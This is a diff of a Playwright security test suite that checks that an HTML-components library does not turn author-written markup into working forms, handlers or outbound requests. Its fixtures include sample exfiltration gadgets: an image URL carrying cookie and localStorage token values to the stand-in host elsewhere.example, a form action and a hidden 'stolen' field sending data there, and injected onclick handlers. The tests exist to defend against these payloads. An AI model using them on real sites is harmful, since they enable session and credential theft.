@@ -1,56 +1,38 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import type { Page } from "playwright-core";
-import { jsonScript, usePages } from "../e2e/support.ts";
+import { checkReport, jsonScript, MODULE_SCRIPT, usePages } from "../e2e/support.ts";
+import { storedField, storedForm } from "../support/form-builder.ts";
 
 const pages = usePages();
 
-/** Hosts that the author of the markup, and nobody else, has named. */
+/** The host that only the author of the markup names. */
 const FOREIGN = /elsewhere\.example/;
 
-/** What an author without the right to write scripts may save: text, ids and `data-*` (WordPress: without `unfiltered_html`). */
+/** A definition that an author without the right to write scripts can save as text (WordPress: without `unfiltered_html`). */
 const GADGET = {
-  id: 7,
-  label: "",
-  meta: { form_action: "https://elsewhere.example/collect" },
+  ...storedForm(
+    [
+      storedField(1, "html", "", {
+        html_editor:
+          '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
+      }),
+      storedField(2, "password", "Password"),
+      storedField(3, "submit", "Read on"),
+    ],
+    { meta: { form_action: "https://elsewhere.example/collect" } },
+  ),
   submit_hidden_fields: [{ name: "stolen", type: "local_storage", value: "token" }],
-  groups: [
-    {
-      id: 1,
-      label: "",
-      meta: {},
-      sections: [
-        {
-          id: 1,
-          label: "",
-          meta: {},
-          fields: [
-            {
-              id: 1,
-              label: "",
-              type: "html",
-              meta: {
-                html_editor:
-                  '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
-              },
-            },
-            { id: 2, type: "password", label: "Password", meta: {} },
-            { id: 3, type: "submit", label: "Read on", meta: {} },
-          ],
-        },
-      ],
-    },
-  ],
 };
 const GADGET_TEXT = JSON.stringify(GADGET).replaceAll("&", "&amp;").replaceAll("<", "&lt;");
 
 const SECRETS = `<script>document.cookie = "session_like=SECRET; path=/"; localStorage.setItem("token", "SECRET");</script>`;
 
-/** Opens a page with an author's markup, and gives what left it for foreign hosts. */
-async function openAuthored(markup: string, head = "") {
+/** Opens a page with an author's markup; `sent` has its requests to the foreign host. */
+async function openAuthored(markup: string) {
   const sent: string[] = [];
   const { page } = await pages.openMarkup({
-    head: `${SECRETS}${head}<script type="module" src="/dist/plaintags.js"></script>`,
+    head: SECRETS + MODULE_SCRIPT,
     body: `<main>${markup}</main>`,
     prepare: (page) =>
       page.route(FOREIGN, (route) => {
@@ -61,11 +43,7 @@ async function openAuthored(markup: string, head = "") {
   return { page, sent };
 }
 
-const problemsOf = (page: Page) =>
-  page.evaluate(
-    () =>
-      (window as unknown as { plaintags: { check(): { problems: { message: string }[] } } }).plaintags.check().problems,
-  );
+const reported = async (page: Page) => (await checkReport(page)).problems.map(({ message }) => message).join();
 const settled = (page: Page, selector: string) =>
   page.locator(`${selector}[state="error"]`).waitFor({ state: "attached" });
 
@@ -76,7 +54,7 @@ for (const [kind, element] of Object.entries({
   "a template": `<template id="def">${GADGET_TEXT}</template>`,
   "a script of another kind": `<script type="text/plain" id="def">${JSON.stringify(GADGET).replaceAll("<", "\\u003c")}</script>`,
 })) {
-  test(`a form's definition in ${kind} makes no form, and no secret leaves the page`, async () => {
+  test(`a form's definition in ${kind} draws no form, and no secret leaves the page`, async () => {
     const { page, sent } = await openAuthored(
       `<div data-plaintags="wsf-form" data-definition="#def" id="form">My text</div>${element}`,
     );
@@ -84,38 +62,28 @@ for (const [kind, element] of Object.entries({
     assert.equal(await page.locator("#form form, #form input, #form img").count(), 0);
     assert.ok(await page.getByText("My text").isVisible());
     assert.deepEqual(sent, []);
-    assert.match(
-      (await problemsOf(page)).map(({ message }) => message).join(),
-      /found a <\w+ id="def"> where only a <script type="application\/json"> is read/,
-    );
+    assert.match(await reported(page), /found a <\w+ id="def"> where only a <script type="application\/json"> is read/);
   });
 }
 
 test("the site's own JSON script is read although an author's element has the same id", async () => {
-  const plain = {
-    id: 8,
-    label: "",
-    meta: {},
-    groups: [
-      {
-        id: 1,
-        label: "",
-        meta: {},
-        sections: [{ id: 1, label: "", meta: {}, fields: [{ id: 1, type: "text", label: "Name", meta: {} }] }],
-      },
-    ],
-  };
   const { page, sent } = await openAuthored(
     `<div id="def" hidden>${GADGET_TEXT}</div><wsf-form definition="#def" id="form"></wsf-form>`,
-    "",
   );
   await settled(page, "#form");
-  await page.evaluate((json) => {
-    const script = Object.assign(document.createElement("script"), { type: "application/json", id: "def", text: json });
-    document.body.append(script);
-    document.querySelector("#form")?.replaceWith(Object.assign(document.createElement("wsf-form"), { id: "form" }));
-    document.querySelector("#form")?.setAttribute("definition", "#def");
-  }, JSON.stringify(plain));
+  await page.evaluate(
+    (json) => {
+      const script = Object.assign(document.createElement("script"), {
+        type: "application/json",
+        id: "def",
+        text: json,
+      });
+      document.body.append(script);
+      document.querySelector("#form")?.replaceWith(Object.assign(document.createElement("wsf-form"), { id: "form" }));
+      document.querySelector("#form")?.setAttribute("definition", "#def");
+    },
+    JSON.stringify(storedForm([storedField(1, "text", "Name")], { id: 8 })),
+  );
   await page.getByLabel("Name").waitFor();
   assert.deepEqual(sent, []);
 });
@@ -127,7 +95,7 @@ test("a tag's options in a block of text are not read", async () => {
   );
   await page.locator('#slider[state="idle"]').waitFor();
   assert.equal(await page.getByLabel("Pictures of somebody else").count(), 0);
-  assert.match((await problemsOf(page)).map(({ message }) => message).join(), /found a <pre id="options">/);
+  assert.match(await reported(page), /found a <pre id="options">/);
 });
 
 test("options in a JSON script are read, also by plain markup", async () => {
@@ -138,7 +106,7 @@ test("options in a JSON script are read, also by plain markup", async () => {
   await page.getByLabel("Pictures of the house").first().waitFor();
 });
 
-test("plain markup makes no protected form, which would hold any markup", async () => {
+test("plain markup makes no protected form, which could contain any markup", async () => {
   const form = Buffer.from(
     '<form action="https://elsewhere.example/" method="post"><input type="password" name="pw"></form>',
   ).toString("base64");
@@ -152,7 +120,7 @@ test("plain markup makes no protected form, which would hold any markup", async 
   assert.deepEqual(sent, []);
 });
 
-test("plain markup brings no handlers and no looks that its author may not write", async () => {
+test("plain markup adds no handlers and no styles that its author may not write", async () => {
   const { page } = await openAuthored(
     `<div data-plaintags="pb-read-more" data-style="position:fixed;inset:0" data-onclick="window.ran = 1" data-onpointerover="window.ran = 1" id="text">Long text</div>`,
   );
@@ -162,7 +130,7 @@ test("plain markup brings no handlers and no looks that its author may not write
   assert.equal(await page.evaluate(() => "ran" in window), false);
 });
 
-test("elements with the names of the form plugin's globals are no data", async () => {
+test("elements named like the form plugin's globals are not read as data", async () => {
   const { page } = await openAuthored(
     `<a id="wsf_form_json_config" name="data"></a><a id="wsf_form_json" name="1"></a><a id="wsf_form_json" name="1"></a><a id="ws_form_settings"></a>
      <wsf-form form-id="1" id="form"></wsf-form>`,
